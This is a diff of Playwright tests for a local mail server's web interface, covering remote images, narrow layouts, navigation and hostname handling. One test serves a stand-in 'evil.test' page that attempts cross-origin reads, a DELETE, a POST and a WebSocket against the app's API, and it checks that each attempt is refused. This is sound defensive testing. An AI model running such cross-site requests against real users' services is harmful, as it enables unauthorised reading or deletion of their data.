+    assert before == []
+    assert [url for url, _ in after] == ["http://pictures.test/far.png"]
+    assert "referer" not in after[0][1]
+    assert "cookie" not in after[0][1]
+    assert asked == after
+
+
+def test_a_mail_without_remote_parts_offers_nothing(server: Running, desk: Desk) -> None:
+    """The button stands only where a mail would fetch something."""
+    page = desk.live(server)
+    id_ = server.send(letter(html="<p>nothing from afar</p>", subject="near"))
+    open_mail(page, id_, "near")
+    expect(page.frame_locator("[data-testid=preview-frame]").locator("p")).to_be_visible()
+
+    expect(page.get_by_test_id("remote")).to_have_count(0)
+
+
+# Narrow, and under other conditions
+
+
+def test_a_narrow_page(server: Running, desks: OpenDesk) -> None:
+    """On 390 pixels there is the list or the mail, one opens the other, and nothing sticks out to the side."""
+    ids = [server.send(letter(html="<p>narrow</p>", text="x", subject=f"number {number}")) for number in range(3)]
+    page = desks(390, 844).live(server)
+    expect(rows(page)).to_have_count(3)
+    expect(page.get_by_test_id("mail")).to_be_hidden()
+    width_of_list = page.evaluate("document.documentElement.scrollWidth")
+    open_mail(page, ids[1], "number 1")
+    expect(page.get_by_test_id("mail")).to_be_visible()
+    expect(page.get_by_test_id("list")).to_be_hidden()
+    width_of_mail = page.evaluate("document.documentElement.scrollWidth")
+    page.get_by_test_id("back").click()
+    expect(page.get_by_test_id("list")).to_be_visible()
+
+    expect(page.get_by_test_id("mail")).to_be_hidden()
+    assert (width_of_list, width_of_mail) == (390, 390)
+
+
+def test_the_way_back_of_the_browser(server: Running, desk: Desk) -> None:
+    """A mail has an address: back leads to the list, forward to the mail, a reload to the same mail."""
+    id_ = server.send(mail("addressed"))
+    page = desk.live(server)
+    open_mail(page, id_, "addressed")
+    page.reload()
+    expect(page.get_by_test_id("mail-subject")).to_have_text("addressed")
+    page.go_back()
+    expect(page.get_by_test_id("mail")).to_be_hidden()
+    page.go_forward()
+
+    expect(page.get_by_test_id("mail")).to_be_visible()
+
+
+def test_a_page_of_another_site_cannot_touch_ours(server: Running, desk: Desk) -> None:
+    """From a foreign page in the same browser: no reading, no deleting, no socket, no framing."""
+    server.send(mail())
+    desk.context.route("http://evil.test/**", lambda route: route.fulfill(body="<p>evil", content_type="text/html"))
+    page = desk.open("http://evil.test/")
+    tries = page.evaluate(
+        """async (web) => {
+            const attempt = (promise) => promise.then((value) => value, () => "refused");
+            const socket = new Promise((resolve) => {
+                const made = new WebSocket(web.replace("http", "ws") + "/api/events");
+                made.onopen = () => resolve("open");
+                made.onerror = () => resolve("refused");
+            });
+            await attempt(fetch(web + "/api/v1/demo", { method: "POST", mode: "no-cors" }));
+            return [
+                await attempt(fetch(web + "/api/v1/messages").then((answer) => answer.text())),
+                await attempt(fetch(web + "/api/v1/messages", { method: "DELETE" }).then((answer) => answer.text())),
+                await socket,
+            ];
+        }""",
+        server.web,
+    )  # fmt: skip
+
+    assert tries == ["refused"] * 3
+    assert len(server.messages()) == 1
+    assert json.loads(server.api("info").content)["RuntimeStats"]["SMTPAccepted"] == 1
+
+
+def test_the_page_under_another_allowed_name(start_server: StartServer, desk: Desk) -> None:
+    """Under ``*.localhost`` the page works as under 127.0.0.1, socket and preview included."""
+    server = start_server()
+    named = Running(server.smtp, server.web.replace("127.0.0.1", "mail.localhost"), server.db)
+    page = desk.live(named)
+    id_ = server.send(
+        letter(html='<p>named</p><img id="logo" src="cid:logo@x">', subject="named", pictures=[picture("logo@x")])
+    )
+    open_mail(page, id_, "named")
+    wait_for(lambda: preview(page).evaluate("document.querySelector('#logo')?.naturalWidth") == 1, what="the picture")
+
+    assert desk.foreign(named) == []
